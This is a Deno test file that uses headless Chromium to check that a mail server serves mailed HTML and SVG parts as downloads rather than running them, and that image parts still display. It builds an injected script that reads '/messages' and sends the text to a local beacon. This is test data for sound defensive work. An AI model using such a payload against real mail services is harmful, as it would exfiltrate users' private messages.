/**
 * Message parts in a real headless browser (issue 11, item 11): a mailed HTML or SVG part
 * opened from the control plane must not run on its origin (it is a download), and an image
 * part still shows under the sandbox policy. A local beacon must see no request; the script
 * under test would read `/messages` and report to it.
 *
 * Without chromium the test is skipped with a note, except in CI (`CI` set).
 *
 * @module
 */

import assert from "node:assert/strict";
import { chromium } from "playwright-core";
import { hostileParts, messagePath, withApi } from "../http/helpers.ts";

const CHROMIUM = Deno.env.get("CHROMIUM_PATH") ?? "/usr/bin/chromium";
const IN_CI = (Deno.env.get("CI") ?? "") !== "" && Deno.env.get("CI") !== "false";
const available = (() => {
  try {
    return Deno.statSync(CHROMIUM).isFile;
  } catch {
    return false;
  }
})();

Deno.test({
  name: "browser: HTML and SVG parts download instead of running; an image part shows",
  ignore: !available && !IN_CI,
  sanitizeOps: false,
  sanitizeResources: false,
}, async () => {
  assert.ok(available, `chromium is required in CI (${CHROMIUM})`);
  const hits: string[] = [];
  const beacon = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, (request) => {
    hits.push(new URL(request.url).search);
    return new Response("x", { headers: { "access-control-allow-origin": "*" } });
  });
  const script = `fetch("/messages").then(r => r.text()).then(t => ` +
    `fetch("http://127.0.0.1:${beacon.addr.port}/?" + encodeURIComponent(t.slice(0, 40))))` +
    `.catch(e => fetch("http://127.0.0.1:${beacon.addr.port}/?failed"))`;
  const browser = await chromium.launch({
    executablePath: CHROMIUM,
    headless: true,
    args: Deno.uid?.() === 0 ? ["--no-sandbox"] : [],
  });
  try {
    await withApi(async (api) => {
      assert.equal((await api.inject({ user: "amy", raw: hostileParts(script) })).status, 201);
      const context = await browser.newContext({ acceptDownloads: true });
      const page = await context.newPage();
      page.setDefaultTimeout(10_000);
      for (const part of ["2", "3"]) {
        const url = api.base + messagePath("amy:INBOX:1", `/parts/${part}`);
        const [download] = await Promise.all([
          page.waitForEvent("download"),
          page.goto(url).catch(() => null),
        ]);
        assert.ok(download.suggestedFilename(), part);
        await download.cancel().catch(() => {});
      }
      const image = await context.newPage();
      await image.goto(api.base + messagePath("amy:INBOX:1", "/parts/4"));
      // A string: the page's DOM types are not this program's.
      const width = await image.evaluate("document.images[0]?.naturalWidth ?? 0");
      assert.equal(width, 1, "the PNG is shown");
      // Time for a script that did run to report.
      await new Promise((resolve) => setTimeout(resolve, 500));
      assert.deepEqual(hits, [], "no script ran");
      await context.close();
    });
  } finally {
    await browser.close();
    await beacon.shutdown();
  }
});
